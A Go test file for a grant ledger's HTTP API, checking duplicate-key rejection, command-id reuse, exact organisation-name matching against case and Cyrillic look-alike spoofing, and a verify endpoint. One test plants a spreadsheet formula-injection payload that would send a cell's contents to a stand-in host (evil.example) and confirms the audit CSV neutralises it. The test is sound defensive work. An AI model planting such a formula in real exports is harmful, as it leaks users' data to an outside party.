package httpapi

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/google/uuid"

	"github.com/grantledger/grantledger/app/access"
	"github.com/grantledger/grantledger/domain"
	"github.com/grantledger/grantledger/internal/testsupport/legacytest"
)

// Issue 12 item 10 over HTTP: an envelope with a key twice is refused on
// the single and the batch route, the field named, and nothing is applied.
func TestHTTPDuplicateKeysRefused(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	body := `{"type":"record_spending","command_id":"` + uuid.NewString() + `","actor":"x","data":{"agreement":"` + agOwn +
		`","line":"L1","year":1,"amount":"1.00","amount":"90 000,00","date":"2024-03-01","document":"dup-key"}}`
	st, b, _ := f.do("POST", "/v1/commands", f.tok["grantee"], body)
	if st != http.StatusBadRequest && st != http.StatusUnprocessableEntity {
		t.Fatalf("single: status %d %s, want a refusal", st, b)
	}
	if p := decodeProblem(t, b); !problemNames(p, "data.amount") {
		t.Fatalf("single: problem %+v does not name data.amount", p)
	}
	st, b, _ = f.do("POST", "/v1/commands/batch", f.tok["grantee"], "["+body+"]")
	var br BatchResponse
	if err := json.Unmarshal(b, &br); err != nil {
		t.Fatalf("batch: status %d %s: %v", st, b, err)
	}
	if br.Failed != 1 || br.Results[0].Problem == nil || !problemNames(*br.Results[0].Problem, "data.amount") {
		t.Fatalf("batch: %s, want the one command refused naming data.amount", b)
	}
	st, b, _ = f.do("GET", "/v1/agreements/"+agOwn, f.tok["grantee"], nil)
	if st != http.StatusOK || strings.Contains(string(b), "90000") || strings.Contains(string(b), "90 000") {
		t.Fatalf("after refusals: %d %s", st, b)
	}
}

func problemNames(p Problem, field string) bool {
	for _, e := range p.Errors {
		if e.Field == field {
			return true
		}
	}
	return strings.Contains(p.Detail, field)
}

// Issue 12 item 9 end to end: a grantee's reason reaches the auditor's
// CSV audit trail, and must not start a formula there.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	reason := `=HYPERLINK("http://evil.example/?leak="&A1,"Open")`
	env := spending(agOwn, "5.00")
	env.Reason = reason
	if st, b, _ := f.do("POST", "/v1/commands", f.tok["grantee"], env); st != http.StatusCreated {
		t.Fatalf("spending: %d %s", st, b)
	}
	st, b, _ := f.do("GET", "/v1/reports/audit?format=csv", f.tok["auditor"], nil)
	if st != http.StatusOK {
		t.Fatalf("audit csv: %d %s", st, b)
	}
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("audit csv: %v\n%s", err, b)
	}
	found := false
	for _, r := range recs {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
				t.Errorf("cell %q begins a formula", c)
			}
			found = found || c == "'"+reason
		}
	}
	if !found {
		t.Errorf("the reason is not in the audit CSV as %q:\n%s", "'"+reason, b)
	}
}

// Issue 12 item 1 on the API: an organisation is matched exactly after
// Unicode NFC and white-space folding, never by case, prefix, substring or
// a look-alike letter; a funder may register only for itself.
func TestOrganisationsMatchExactly(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	f.register("AG-LV", "Kultūras ministrija", granteeA)
	cases := []struct {
		funder, agreement string
		same              bool
	}{
		{"Ministry", agOwn, false},                   // prefix
		{"Ministry A2", agOwn, false},                // longer
		{"inistry A", agOwn, false},                  // substring
		{"ministry a", agOwn, false},                 // case
		{"MINISTRY A", agOwn, false},                 // case
		{"Ministry \u0410", agOwn, false},            // Cyrillic A
		{"Ministry\u00a0A", agOwn, true},             // no-break space is white space
		{" Ministry  A ", agOwn, true},               // spaces at the ends and inside
		{"Ministry A", agOwn, true},                  // itself
		{"Kultu\u0304ras ministrija", "AG-LV", true}, // NFD of ū: the same name
		{"Kulturas ministrija", "AG-LV", false},      // without the macron
	}
	for _, c := range cases {
		tok, _, err := f.tokens.Create(access.Principal{Name: "p", Role: access.RoleFunder, Funder: c.funder})
		if err != nil {
			t.Fatal(err)
		}
		st, b, _ := f.do("GET", "/v1/agreements/"+c.agreement, tok, nil)
		if c.same && st != http.StatusOK || !c.same && st != http.StatusForbidden {
			t.Errorf("funder %q reading %s: status %d, want same=%v: %s", c.funder, c.agreement, st, c.same, b)
		}
		_, b, _ = f.do("GET", "/v1/reports/reconciliation?year=1", tok, nil)
		if got := strings.Contains(string(b), `"agreement":"`+c.agreement+`"`); got != c.same {
			t.Errorf("funder %q: reconciliation lists %s = %v, want %v", c.funder, c.agreement, got, c.same)
		}
		env := spending(c.agreement, "1.00")
		st, b, _ = f.do("POST", "/v1/commands", tok, env)
		if !c.same && st != http.StatusForbidden {
			t.Errorf("funder %q acting on %s: status %d, want 403: %s", c.funder, c.agreement, st, b)
		}
	}
	t.Run("a funder registers only for itself", func(t *testing.T) {
		for i, other := range []string{funderB, "ministry a", "Ministry", "Ministry A2", "Ministry \u0410"} {
			reg := domain.NewEnvelope(uuid.New(), "x", "", registerFor("AG-X"+string(rune('0'+i)), other))
			st, b, _ := f.do("POST", "/v1/commands", f.tok["funder"], reg)
			if st != http.StatusForbidden {
				t.Errorf("funder %q registering for %q: status %d, want 403: %s", funderA, other, st, b)
			}
		}
		reg := domain.NewEnvelope(uuid.New(), "x", "", registerFor("AG-OWN-2", "Ministry A"))
		if st, b, _ := f.do("POST", "/v1/commands", f.tok["funder"], reg); st != http.StatusCreated {
			t.Errorf("funder registering for itself: status %d: %s", st, b)
		}
	})
}

func registerFor(number, funder string) domain.RegisterAgreement {
	y1, _ := domain.ParseDate("2024-01-01")
	y1e, _ := domain.ParseDate("2024-12-31")
	return domain.RegisterAgreement{Ref: domain.Ref{Agreement: number}, Kind: domain.KindGrant, Title: "T", Grantee: granteeA, Funder: funder,
		Period: domain.Period{From: y1, To: y1e}, Years: []domain.YearSpec{{Year: 1, From: y1, To: y1e}}}
}

// Issue 12 item 8 over HTTP, single and batch: a command id is used on one
// agreement; on another it is 409, and nothing is appended.
func TestHTTPCommandIDOnTwoAgreements(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	f.register("AG-3", funderA, granteeA)
	x := spending(agOwn, "7.00")
	if st, b, _ := f.do("POST", "/v1/commands", f.tok["grantee"], x); st != http.StatusCreated {
		t.Fatalf("first: %d %s", st, b)
	}
	again := spending("AG-3", "7.00")
	again.CommandID = x.CommandID
	st, b, _ := f.do("POST", "/v1/commands", f.tok["grantee"], again)
	if st != http.StatusConflict || !strings.Contains(string(b), "command_id") {
		t.Fatalf("same id on AG-3: %d %s, want 409 naming command_id", st, b)
	}
	if st, b, _ := f.do("POST", "/v1/commands", f.tok["grantee"], x); st != http.StatusOK {
		t.Fatalf("exact retry: %d %s, want 200 (duplicate)", st, b)
	}
	y1, y2 := spending(agOwn, "8.00"), spending("AG-3", "8.00")
	y2.CommandID = y1.CommandID
	st, b, _ = f.do("POST", "/v1/commands/batch", f.tok["grantee"], []domain.Envelope{again, y1, y2})
	var br struct {
		Results []struct{ Status int }
	}
	if err := json.Unmarshal(b, &br); err != nil || len(br.Results) != 3 {
		t.Fatalf("batch: %d %s: %v", st, b, err)
	}
	got := []int{br.Results[0].Status, br.Results[1].Status, br.Results[2].Status}
	if got[0] != http.StatusConflict || got[1] != http.StatusCreated || got[2] != http.StatusConflict {
		t.Fatalf("batch statuses %v, want [409 201 409]: %s", got, b)
	}
	_, b, _ = f.do("GET", "/v1/agreements/AG-3", f.tok["grantee"], nil)
	var sum struct {
		Totals map[string]struct{ Actual domain.Money } `json:"totals_by_year"`
	}
	if err := json.Unmarshal(b, &sum); err != nil {
		t.Fatal(err)
	}
	// AG-3 holds only the fixture's setup spending of 10.00.
	if got := sum.Totals["1"].Actual; got != domain.MustMoney("10.00") {
		t.Fatalf("AG-3 year 1 actual %s, want 10.00 (a reused command was applied): %s", got, b)
	}
}

// Issue 12 item 2: GET /v1/verify lists the look-alike numbers an older
// ledger holds, as `grantledger verify` does.
func TestHTTPVerifyListsLookAlikeNumbers(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	legacytest.Register(t, f.store, "ag-1", funderB, granteeB) // AG-1 in lower case
	st, b, _ := f.do("GET", "/v1/verify", f.tok["auditor"], nil)
	var v struct {
		OK       bool
		Findings []struct {
			Code       string
			Agreements []string
		}
	}
	if err := json.Unmarshal(b, &v); err != nil || st != http.StatusOK {
		t.Fatalf("verify: %d %s %v", st, b, err)
	}
	if !v.OK || len(v.Findings) != 1 || v.Findings[0].Code != "look_alike_numbers" || strings.Join(v.Findings[0].Agreements, ",") != "AG-1,ag-1" {
		t.Fatalf("verify: %s, want one look_alike_numbers finding for AG-1 and ag-1", b)
	}
}
